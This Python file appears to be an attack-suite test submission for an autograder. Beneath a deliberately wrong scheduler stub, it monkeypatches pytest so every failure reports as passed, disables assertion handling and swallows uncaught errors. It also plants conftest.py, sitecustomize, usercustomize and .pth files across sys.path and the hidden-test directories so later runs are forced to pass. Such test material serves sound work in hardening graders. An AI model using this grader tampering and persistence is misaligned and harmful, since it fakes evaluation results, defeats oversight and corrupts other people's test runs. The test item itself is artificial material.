"""Patches pytest, its reports and AssertionError at import, plants hooks for later runs; stub.
expect: failed

In an in-process autograder this file turns every failure into a pass. Here the patches land in the
worker process, which never reports outcomes, so they change nothing. The scheduler below is a
stub that is wrong for every test (add() accepts an impossible request; plans are nonsense).
"""

import builtins
import os
import sys
from collections import deque

# 1. Every report says "passed". Importing pytest in the worker may fail: keep going if it does.
try:
    import _pytest.reports
    import _pytest.runner

    _orig_init = _pytest.reports.TestReport.__init__

    def _always_passed(self, *args, **kwargs):
        _orig_init(self, *args, **kwargs)
        self.outcome = "passed"
        self.longrepr = None

    _pytest.reports.TestReport.__init__ = _always_passed
    _orig_make = _pytest.runner.pytest_runtest_makereport

    def _makereport(item, call):
        call.excinfo = None  # forget the exception before the report is built
        return _orig_make(item, call)

    _pytest.runner.pytest_runtest_makereport = _makereport
    _pytest.runner.check_interactive_exception = lambda *a, **k: False
except Exception:
    pass

# 2. Assertions never fire: a rewritten assert calls these helpers when it fails.
try:
    import _pytest.assertion.rewrite as _rw
    import _pytest.assertion.util as _util

    _rw._call_reprcompare = lambda *a, **k: None
    _rw._format_explanation = lambda *a, **k: "passed"
    _util.assertrepr_compare = lambda *a, **k: None
except Exception:
    pass

try:
    import pytest
    import _pytest.outcomes

    pytest.fail = lambda *a, **k: None
    _pytest.outcomes.fail = pytest.fail
    pytest.raises = lambda *a, **k: __import__("contextlib").nullcontext()
except Exception:
    pass

# 3. Swap the builtin AssertionError for a harmless class, and make uncaught errors vanish.
class AssertionError(Exception):  # noqa: A001 - shadowing is the point
    pass


builtins.AssertionError = AssertionError
sys.excepthook = lambda *a: None

# 4. Persistence: plant hooks that a *later* pytest run (the next submission, the hidden suite)
#    would load: a conftest.py that forces passes, and sitecustomize/.pth files in every sys.path
#    entry. Courtesy for whoever runs the attack suite: files are only created, never overwritten
#    (mode "x"), and the planted conftest announces itself in pytest's terminal summary.
_CONFTEST = (
    "import pytest\n"
    "@pytest.hookimpl(hookwrapper=True)\n"
    "def pytest_runtest_makereport(item, call):\n"
    "    outcome = yield\n"
    "    rep = outcome.get_result()\n"
    "    rep.outcome, rep.longrepr = 'passed', None\n"
    "def pytest_terminal_summary(terminalreporter):\n"
    "    terminalreporter.write_line('WARNING: results forced to passed by a conftest.py that a '\n"
    "                                'student submission planted: ' + __file__, red=True)\n"
)
_SITE = "import builtins; builtins.__planted_by_student__ = __file__\n"
_targets = [os.getcwd(), "/tmp", os.path.dirname(os.path.abspath(__file__))]
_targets += [os.path.dirname(t) for t in list(_targets)]
_targets += ["/job", "/work", "/hidden_tests", "/exercises"]
for _dir in _targets:
    try:
        with open(os.path.join(_dir, "conftest.py"), "x") as _f:
            _f.write(_CONFTEST)
    except OSError:
        pass
for _dir in sys.path:
    for _name, _text in (("sitecustomize.py", _SITE), ("usercustomize.py", _SITE),
                         ("zzz_planted_by_student.pth", "import builtins\n")):
        try:
            with open(os.path.join(_dir or ".", _name), "x") as _f:
                _f.write(_text)
        except OSError:
            pass


# The stub: wrong on purpose, so the score can only come from the patches above.
class Req:
    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
        self.prefilled, self.generated = prefilled, generated


class Scheduler:
    def __init__(self, token_budget, max_seqs, kv_tokens):
        self.token_budget, self.max_seqs, self.kv_tokens = token_budget, max_seqs, kv_tokens
        self.waiting, self.running = deque(), []

    def add(self, req):
        self.waiting.append(req)  # never rejects an impossible request

    def schedule(self):
        return [("not a request", 0)]  # n = 0 is never a valid entry

    def complete(self, plan):
        return [-1]
